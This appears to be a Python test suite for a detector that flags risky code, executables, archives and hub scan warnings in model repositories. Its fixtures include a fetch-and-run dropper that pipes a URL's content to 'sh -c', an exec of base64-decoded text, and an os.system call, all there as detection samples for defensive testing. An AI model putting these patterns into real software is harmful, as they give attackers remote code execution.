"""Code, programs, archives and the Hub's scan: what is told, how gravely, and what stays a note."""

import dataclasses
import io
import json
import tarfile
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import evidence_for
import pytest
from localhub.server import LocalHub
from quickhub import pinned, quick_hub

from audit.detectors.repository_code import ACTS, DETECTOR, FLAGGED, PROGRAMS, REMOTE, UNSCANNED
from audit.evidence import Evidence, Hit
from scanner.facts import collect
from scanner.hub import Hub
from scanner.records import RepoRef
from scanner.side.gather import look_around

MODEL = "import torch\nfrom transformers import PreTrainedModel\n\nclass Own(PreTrainedModel):\n    pass\n"
ELF = Path("/bin/true").read_bytes()[:64] if Path("/bin/true").exists() else b"\x7fELF" + b"\0" * 60
AUTO = {"auto_map": {"AutoModel": "modeling_own.Own"}}


def zipped(*names: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return target.getvalue()


def tarred(*names: str) -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    return target.getvalue()


def looked_at(root: Path, candidate: Mapping[str, Any], base: Mapping[str, Any] | None = None) -> Evidence:
    facts = []
    for name, files in (("candidate", candidate), ("base", base or {})):
        folder = root / name
        for path, content in {"config.json": {}, **files}.items():
            target = folder / path
            target.parent.mkdir(parents=True, exist_ok=True)
            raw = (
                content
                if isinstance(content, bytes)
                else (content if isinstance(content, str) else json.dumps(content)).encode()
            )
            target.write_bytes(raw)
        facts.append(collect(RepoRef(path=str(folder)), Hub("http://127.0.0.1:9")))
    side = look_around(facts[0], facts[1], Hub("http://127.0.0.1:9"))
    return dataclasses.replace(evidence_for.evidence(None, candidate=facts[0], base=facts[1]), side=side)


def judged(of: Evidence) -> list[Hit]:
    return [hit for hit in DETECTOR.run(of) if isinstance(hit, Hit) and hit.finding]


DROPPER = "import subprocess, urllib.request\nsubprocess.run(['sh', '-c', urllib.request.urlopen('http://x').read()])\n"
ACTING = {
    "named code starts a program": {"modeling_own.py": MODEL + "import os\nos.system('id')\n", "config.json": AUTO},
    "a loader that fetches and runs": {"loader.py": DROPPER},
    "a handler with a socket": {"handler.py": "import socket\n"},
    "decoded and run": {"tools/x.py": "from base64 import b64decode as d\nexec(d('cGFzcw=='))\n"},
    "named code that is no Python": {"modeling_own.py": "def broken(:\n", "config.json": AUTO},
}
INNOCENT_CODE = {
    "a model": {"modeling_own.py": MODEL, "config.json": AUTO},
    "a demo that loads a picture": {"demo.py": "import requests\nprint(requests.get('https://x/cat.png').content)\n"},
    "a training script": {"train.py": "import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"},
    "a configuration class": {"configuration_own.py": "from transformers import PretrainedConfig\n"},
    "an old script": {"old.py": "print 'two'\n"},
    "paths of URLs": {"modeling_own.py": MODEL + "from urllib.parse import urlparse\n", "config.json": AUTO},
}
PROGRAM = {
    "a batch file": {"start.bat": "echo\n"},
    "a Windows program": {"helper.exe": b"MZ\0"},
    "PowerShell": {"run.ps1": "Write-Host\n"},
    "a library": {"ops.so": ELF},
    "a program without a suffix": {"sub/helper": ELF},
    "a program that calls itself data": {"cache.dat": b"MZ\x90\0"},
}
INNOCENT_FILES = {
    "pictures": {"a.png": b"\x89PNG", "b.jpg": b"\xff\xd8"},
    "training leftovers": {"runs/events.out.tfevents.1.host.2.0": b"\x18\0", "trainer_state.json": {}},
    "a shell script": {"train.sh": "#!/bin/sh\n"},
    "a notebook": {"example.ipynb": {}},
    "an archive of texts": {"data.zip": zipped("a.txt", "b.csv")},
    "an archive of code": {"code.tar": tarred("train.py", "a.txt")},
    "licence and make": {"LICENSE": "Apache", "Makefile": "all:\n", "merges": "a b\n"},
}


@pytest.mark.parametrize("name", ACTING)
def test_code_that_acts_asks_for_a_review(tmp_path, name):
    of = looked_at(tmp_path, ACTING[name])
    told = [hit for hit in judged(of) if hit.rule_id == ACTS.id]
    assert [hit.score for hit in told] == [of.profile.value("HA732.score")]
    assert evidence_for.report(of).verdict.outcome == "review"


@pytest.mark.parametrize("name", INNOCENT_CODE)
def test_innocent_code_is_a_note_at_most(tmp_path, name):
    hits = judged(looked_at(tmp_path, INNOCENT_CODE[name]))
    assert all(hit.score == 0 and hit.finding.severity in {"info", "low"} for hit in hits if hit.finding)


@pytest.mark.parametrize("name", PROGRAM)
def test_programs_ask_for_a_review(tmp_path, name):
    of = looked_at(tmp_path, PROGRAM[name])
    (hit,) = judged(of)
    assert (hit.rule_id, hit.score) == (PROGRAMS.id, of.profile.value("HA733.score"))


@pytest.mark.parametrize("name", INNOCENT_FILES)
def test_innocent_files_are_a_note_at_most(tmp_path, name):
    hits = judged(looked_at(tmp_path, INNOCENT_FILES[name]))
    assert all(hit.score == 0 and hit.finding.severity in {"info", "low"} for hit in hits if hit.finding)


def test_the_counts_in_the_rule_book_are_these():
    assert (len(ACTING), len(INNOCENT_CODE), len(PROGRAM), len(INNOCENT_FILES)) == (5, 6, 6, 7)


def test_what_is_in_an_archive_is_told(tmp_path):
    of = looked_at(tmp_path, {"x.zip": zipped("a.txt", "setup.exe"), "y.zip": b"PK broken", "z.7z": b"7z"})
    (hit,) = judged(of)
    assert hit.finding is not None
    assert "setup.exe" in hit.finding.explanation
    assert {skip.what for skip in of.side.skips} == {"y.zip", "z.7z"}


def test_nothing_of_a_repository_is_run(tmp_path):
    target = tmp_path / "was-run"
    looked_at(tmp_path, {"modeling_own.py": f"import os\nos.mkdir({str(target)!r})\n", "config.json": AUTO})
    assert not target.exists()


def test_code_from_another_repository_is_told_by_name(tmp_path):
    of = looked_at(tmp_path, {"config.json": {"auto_map": {"AutoModel": "someone/else--modeling_x.X"}}})
    (hit,) = judged(of)
    assert hit.finding is not None
    assert (hit.rule_id, hit.finding.severity) == (REMOTE.id, "medium")
    assert "someone/else" in hit.finding.explanation


@pytest.mark.parametrize("maps", [[], "x", {"A": 3}, {"A": [None, "m.X"]}, {"": ""}, {"A" * 999: "b" * 999}])
def test_odd_auto_maps_break_nothing(tmp_path, maps):
    judged(looked_at(tmp_path, {"config.json": {"auto_map": maps}}))


def on_the_hub(server: LocalHub, files: Mapping[str, Any], base: Mapping[str, Any], **options: Any) -> Evidence:
    server.add_repo("org/base", dict(base))
    server.add_repo("org/model", dict(files), **options)
    hub = quick_hub(server)
    candidate, parent = (collect(pinned(hub, name), hub) for name in ("org/model", "org/base"))
    return dataclasses.replace(
        evidence_for.evidence(None, candidate=candidate, base=parent), side=look_around(candidate, parent, hub)
    )


def test_the_bases_own_code_and_programs_are_not_told_again(hub_server: LocalHub):
    files = {
        "config.json": json.dumps(AUTO),
        "modeling_own.py": "import socket\n",
        "run.bat": "x",
    }
    (hit,) = judged(on_the_hub(hub_server, files, files))
    assert hit.finding is not None
    assert (hit.rule_id, hit.finding.severity) == (REMOTE.id, "info")


@pytest.mark.parametrize(
    ("level", "severity", "weighs"),
    [("unsafe", "high", True), ("suspicious", "medium", True), ("caution", "low", False)],
)
def test_the_hubs_complaints_are_repeated(hub_server: LocalHub, level, severity, weighs):
    security = {"scansDone": True, "filesWithIssues": [{"path": "x.bin", "level": level}]}
    (hit,) = judged(on_the_hub(hub_server, {}, {}, security=security))
    assert hit.finding is not None
    assert (hit.rule_id, hit.finding.severity, hit.score > 0) == (FLAGGED.id, severity, weighs)


def test_not_scanned_is_never_a_good_sign(hub_server: LocalHub):
    of = on_the_hub(hub_server, {}, {}, security={"scansDone": False, "filesWithIssues": []})
    (hit,) = judged(of)
    assert hit.finding is not None
    assert hit.rule_id == UNSCANNED.id
    assert "has not finished" in hit.finding.explanation
    unknown = dataclasses.replace(of.candidate, hub={**of.candidate.hub, "security": None})
    (hit,) = judged(dataclasses.replace(of, candidate=unknown))
    assert hit.rule_id == UNSCANNED.id
    assert not judged(on_the_hub(hub_server, {}, {}))
